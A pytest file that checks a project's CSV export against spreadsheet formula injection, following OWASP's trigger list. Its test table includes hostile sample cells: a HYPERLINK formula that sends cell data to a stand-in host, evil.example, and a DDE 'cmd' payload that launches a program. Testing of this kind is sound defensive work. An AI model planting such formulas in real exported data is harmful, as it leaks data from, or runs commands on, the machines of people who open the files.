"""Cells of the open data's CSV never run as spreadsheet formulas.

OWASP's CSV injection guidance: a cell whose text starts with ``=``, ``+``,
``-``, ``@``, a tab, a carriage return or a line feed is evaluated by
spreadsheets, so such a cell gets a leading single quote; so does one where a
trigger follows leading blanks or quotes, which some spreadsheets skip. The
table gives each trigger and its exact neutralized cell, in the manner of
goldmark's tables; built sites are checked in ``test_hostile_input.py``.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from factcheck.outputs.data import csv_cell, csv_rows

# OWASP's list and ASVS's NUL, kept here rather than imported: the test must
# fail if the code drops one.
OWASP_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
LEADING_BLANKS_AND_QUOTES = re.compile(r"^[\s\"']*")


def spreadsheet_evaluates(cell: str) -> bool:
    """Whether a spreadsheet could read `cell` as a formula: no leading ' and a trigger first."""
    if cell.startswith("'"):
        return False
    return cell.startswith(OWASP_TRIGGERS) or LEADING_BLANKS_AND_QUOTES.sub("", cell).startswith(
        OWASP_TRIGGERS
    )


CELLS = [
    ("=1+1", "'=1+1"),
    (
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
        '\'=HYPERLINK("https://evil.example/?"&A1,"x")',
    ),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\tplain", "'\tplain"),
    ("\r=1+1", "'\n=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("\0=1+1", "'\0=1+1"),
    (" =1+1", "' =1+1"),
    ("\u00a0\u3000=1+1", "'\u00a0\u3000=1+1"),
    ('"=1+1"', '\'"=1+1"'),
    ("'=1+1", "''=1+1"),
    (" ' \" @SUM(1)", "' ' \" @SUM(1)"),
    # Text that only contains a trigger later is left as it is.
    ("The budget grew by a third.", "The budget grew by a third."),
    ("1+1=2", "1+1=2"),
    ("a;=1+1", "a;=1+1"),
    ("", ""),
    # A lone carriage return would end the row in a spreadsheet: it becomes a quoted line feed.
    ("ok\r=1+1", "ok\n=1+1"),
    ("a\r\nb", "a\nb"),
    ("'quoted'", "'quoted'"),
    ("https://example.org/a=b", "https://example.org/a=b"),
]


@pytest.mark.parametrize(("text", "expected"), CELLS, ids=[repr(c[0])[:30] for c in CELLS])
def test_csv_cell_neutralizes_exactly_the_formula_triggers(text, expected):
    assert csv_cell(text) == expected


def test_the_table_starts_a_cell_with_every_trigger():
    firsts = {text[0] for text, _ in CELLS if text}
    assert set(OWASP_TRIGGERS) <= firsts


@pytest.mark.parametrize(("text", "expected"), CELLS, ids=[repr(c[0])[:30] for c in CELLS])
def test_no_neutralized_cell_is_a_formula(text, expected):
    if spreadsheet_evaluates(text):
        assert expected != text
    assert not spreadsheet_evaluates(expected)


@pytest.mark.parametrize("trigger", OWASP_TRIGGERS, ids=repr)
def test_a_written_row_reads_back_as_neutralized_cells(trigger):
    row = ["slug", f"{trigger}1+1", "a,b", 'say "hi"', f" {trigger}x", f"ok{trigger}=1+1"]
    rows = list(csv.reader(io.StringIO(csv_rows([row, ["next"]]), newline="")))
    assert rows[1:] == [["next"]]
    cells = rows[0]
    assert cells == [csv_cell(cell) for cell in row]
    assert not any(spreadsheet_evaluates(cell) for cell in cells), cells
